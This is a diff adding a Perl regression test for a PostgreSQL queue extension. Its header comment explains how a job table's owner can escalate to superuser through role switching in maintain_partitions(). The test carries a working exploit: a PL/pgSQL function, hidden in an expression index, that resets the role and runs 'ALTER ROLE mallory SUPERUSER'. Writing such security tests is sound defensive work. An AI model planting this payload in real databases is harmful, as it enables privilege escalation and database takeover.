@@ -1,0 +1,72 @@
+# What: 489's fix runs the code of a job table's owner "as the owner":
+# create_partitions() and default_holds_day() switch with
+# set_config('role', owner, true) when the caller is a member of the owner
+# (a superuser always is).  SET ROLE is no sandbox: the session user is
+# still the caller, and code running under it may SET ROLE back
+# (set_config('role', 'none') or to any role the session user may become)
+# unless it runs in a security-restricted operation, which PL/pgSQL cannot
+# enter.  The table's owner (no superuser) plants an expression index over
+# an IMMUTABLE function of its own and a DEFAULT partition; the DBA's
+# maintain_partitions() (pg_cron, superuser) plans default_holds_day()'s
+# query as the owner, the planner simplifies the index expressions, the
+# owner's function resets the role to the superuser, makes its role a
+# superuser and sets the role back, unseen.
+# Why: sql/src/40_job_tables.sql default_holds_day() (PERFORM
+# set_config('role', owner, true) around the EXECUTE); the same switch in
+# create_partitions() (around ATTACH, where the index build itself is
+# restricted, but any planning under the switch is not).
+# Expected: the owner's code cannot act as the caller: mallory stays
+# NOSUPERUSER (e.g. refuse a table whose index expressions, predicates or
+# CHECK constraints call a function of a role other than a superuser's,
+# as the backfill does since 482, instead of a SET ROLE).
+# Severity: high (privilege escalation from any job table's owner with a
+# DEFAULT partition to the caller of maintain_partitions() or
+# create_partitions(), typically a superuser; silent).
+# Control: W2Q_ATTACK_CONTROL=1 makes the index over queue alone: passes.
+use strict;
+use warnings;
+use IPC::Run;
+use PostgreSQL::Test::Utils;
+use Test::More;
+use W2QTest;
+
+my $node = new_node('maintain_reset_role');
+$node->safe_psql('postgres', q{
+	CREATE EXTENSION wal2queue;
+	CREATE ROLE mallory LOGIN;
+	CREATE SCHEMA m AUTHORIZATION mallory;
+});
+my $expr = $ENV{W2Q_ATTACK_CONTROL} ? '(queue)' : '((m.tag(0) || queue))';
+my ($out, $err) = run_command([ 'psql', '-X', '-A', '-t', '-v', 'ON_ERROR_STOP=1',
+	'-d', $node->connstr('postgres') . ' user=mallory', '-c', qq{
+	CREATE FUNCTION m.pwn() RETURNS void LANGUAGE plpgsql VOLATILE AS \$f\$
+	BEGIN
+		IF session_user <> 'mallory' AND current_user = 'mallory' THEN
+			BEGIN
+				PERFORM set_config('role', 'none', true);
+				EXECUTE 'ALTER ROLE mallory SUPERUSER';
+				PERFORM set_config('role', 'mallory', true);
+			EXCEPTION WHEN OTHERS THEN
+				NULL;
+			END;
+		END IF;
+	END \$f\$;
+	CREATE FUNCTION m.tag(i int) RETURNS text LANGUAGE plpgsql IMMUTABLE AS \$f\$
+	BEGIN
+		PERFORM m.pwn();
+		RETURN '';
+	END \$f\$;
+	CREATE TABLE m.jobs (id bigint, queue text NOT NULL, payload jsonb NOT NULL DEFAULT '{}',
+	  created_at timestamptz NOT NULL DEFAULT now()) PARTITION BY RANGE (created_at);
+	CREATE TABLE m.jobs_default PARTITION OF m.jobs DEFAULT;
+	CREATE INDEX jobs_tag ON m.jobs $expr;} ]);
+is($err, '', "mallory's partitioned job table with an expression index and a DEFAULT partition");
+
+my ($rc, $mout, $merr) = $node->psql('postgres', q{SELECT * FROM wal2queue.maintain_partitions('m.jobs', 1, 7)});
+diag("maintain_partitions: $mout $merr");
+like($mout, qr/^created\|m\.jobs_p\d{8}$/m, 'the days are created');
+is($node->safe_psql('postgres', q{SELECT current_user}), 'postgres', "the caller's session");
+is($node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'}), 'f',
+	"the table's owner did not make itself a superuser through the caller's session");
+$node->stop;
+done_testing();
